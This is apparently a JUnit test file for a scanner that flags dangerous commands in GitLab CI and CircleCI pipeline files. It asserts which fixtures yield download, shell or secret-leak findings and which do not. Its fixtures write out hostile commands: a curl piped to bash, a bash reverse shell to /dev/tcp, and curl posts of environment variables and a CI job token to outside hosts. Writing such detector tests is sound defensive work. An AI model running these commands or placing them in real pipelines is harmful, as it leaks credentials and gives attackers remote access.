package dev.assay.detectors.indicator.workflow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.scan.TestScan;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PipelineTest {
    private static List<String> findings(String path, String text) {
        return new TestScan(AllDetectors.ALL)
                .run(path, text.getBytes(StandardCharsets.UTF_8)).findings().stream()
                        .filter(finding -> finding.ruleId().startsWith("indicator/"))
                        .map(finding -> finding.severity() + " " + finding.ruleId() + " "
                                + finding.location().line())
                        .toList();
    }

    @Test
    void what_a_command_leaves_a_later_one_of_its_job_runs() {
        String text = """
                build:
                  script:
                    - sh ./x.sh
                  before_script:
                    - curl -sO http://192.0.2.1/x.sh
                other:
                  script: [sh ./y.sh]
                more:
                  script: [curl -sO http://192.0.2.1/y.sh]
                """;
        assertThat(findings(".gitlab-ci.yml", text)).containsExactly("MEDIUM indicator/workflow-runs-download 3");
    }

    @Test
    void commands_are_judged_as_those_of_workflows() {
        String text = """
                version: 2.1
                jobs:
                  a:
                    steps:
                      - checkout
                      - run: curl https://example.com/i.sh | bash
                      - run:
                          command: |
                            bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
                      - run: env | curl -X POST -d @- https://example.com/x
                """;
        assertThat(findings(".circleci/config.yml", text))
                .containsExactlyInAnyOrder(
                        "LOW indicator/workflow-runs-download 6",
                        "CRITICAL indicator/workflow-opens-shell 8",
                        "HIGH indicator/workflow-gives-secrets 10");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: {script: [curl -sO https://example.com/x.tgz, tar xf x.tgz, make]}",
                "a: {script: ['curl -d \"$CI_JOB_TOKEN\" https://gitlab.example.com/api/v4/x']}",
                "a: {script: [env, echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']}",
                "a: {variables: {b: 'curl http://192.0.2.1/x | sh'}, script: [make]}",
                "a: {rules: [{if: '$CI == \"curl http://192.0.2.1/x | sh\"'}], script: [make]}",
                "a: {environment: {url: 'http://192.0.2.1/x'}, script: [codecov, 'apt-get install -y curl']}"
            })
    void what_builds_do_is_nothing(String text) {
        assertThat(findings(".gitlab-ci.yml", text)).isEmpty();
    }

    @Test
    void one_of_a_sample_is_not_run() {
        String text = "a: {script: ['curl http://192.0.2.1/x | sh']}";
        assertThat(findings("a/.gitlab-ci.yml", text)).containsExactly("MEDIUM indicator/workflow-runs-download 1");
        assertThat(findings("test/fixtures/a/.gitlab-ci.yml", text)).isEmpty();
        assertThat(findings("a/examples/.gitlab-ci.yml", text))
                .containsExactly("LOW indicator/workflow-runs-download 1");
    }
}
